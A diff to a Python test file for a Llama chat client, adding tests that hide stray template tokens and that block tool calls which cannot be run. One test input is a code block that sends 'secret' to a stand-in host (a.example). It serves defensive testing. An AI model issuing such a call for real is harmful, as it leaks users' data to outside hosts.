@@ -142,8 +142,10 @@ async def test_the_third_time_the_model_has_to_answer(client: LlamaClient, fake_
         '{"name": "send_mail", "parameters": {"to": "x"}}',
         '{"name": "web_search", "parameters": {"query": "news", ]}',
         '<function=web_search>{"query": }</function>',
+        '<|python_tag|>import requests\nrequests.get("https://a.example/?q=secret")<|eom_id|>',
+        '<|python_tag|>send_mail.call(to="x", body="secret")<|eom_id|>',
     ],
-    ids=["unoffered", "broken", "broken function"],
+    ids=["unoffered", "broken", "broken function", "code", "unoffered built-in"],
 )
 async def test_a_call_that_cannot_be_run_is_neither_run_nor_shown(
     client: LlamaClient, fake_llama: FakeLlama, bad: str
@@ -153,7 +155,35 @@ async def test_a_call_that_cannot_be_run_is_neither_run_nor_shown(
     events = await answered(client, tools.bound(), "What happened today?")
     assert tools.calls == []
     assert words(events) == "I answer in words."
-    assert "{" not in shown(events)
+    assert not any(word in shown(events) for word in ("{", "secret", "|>"))
+
+
+@pytest.mark.parametrize("chunk", ["all", "char"])
+async def test_a_result_that_the_model_made_up_behind_its_call_is_not_shown(
+    client: LlamaClient, fake_llama: FakeLlama, chunk: str
+) -> None:
+    fake_llama.script(says(f"{CALL}<|eom_id|>A caravan is in Lima.", chunk=chunk), says("Llamas [1]."))
+    tools = Tools()
+    events = await answered(client, tools.bound(), "What happened today?")
+    assert (len(tools.calls), words(events)) == (1, "Llamas [1].")
+    assert "Lima" not in shown(events)
+
+
+@pytest.mark.parametrize("question", ["hello", "What happened today?"])
+@pytest.mark.parametrize("chunk", ["all", "char"])
+async def test_a_mark_that_strayed_into_words_is_not_shown(
+    client: LlamaClient, fake_llama: FakeLlama, question: str, chunk: str
+) -> None:
+    said = "I know it<|eom_id|>: `<|python_tag|>` begins <|python_tag|>a call.<|eom_id|>"
+    fake_llama.script(says(said, chunk=chunk))
+    events = await answered(client, Tools().bound(), question)
+    assert words(events) == "I know it: `` begins a call."
+
+
+async def test_marks_alone_are_no_answer(client: LlamaClient, fake_llama: FakeLlama) -> None:
+    fake_llama.script(says("<|python_tag|>"))
+    with pytest.raises(EmptyAnswerError):
+        await answered(client, Tools().bound(), "What happened today?")
 
 
 async def test_a_tool_that_fails_is_told_to_the_model(client: LlamaClient, fake_llama: FakeLlama) -> None:
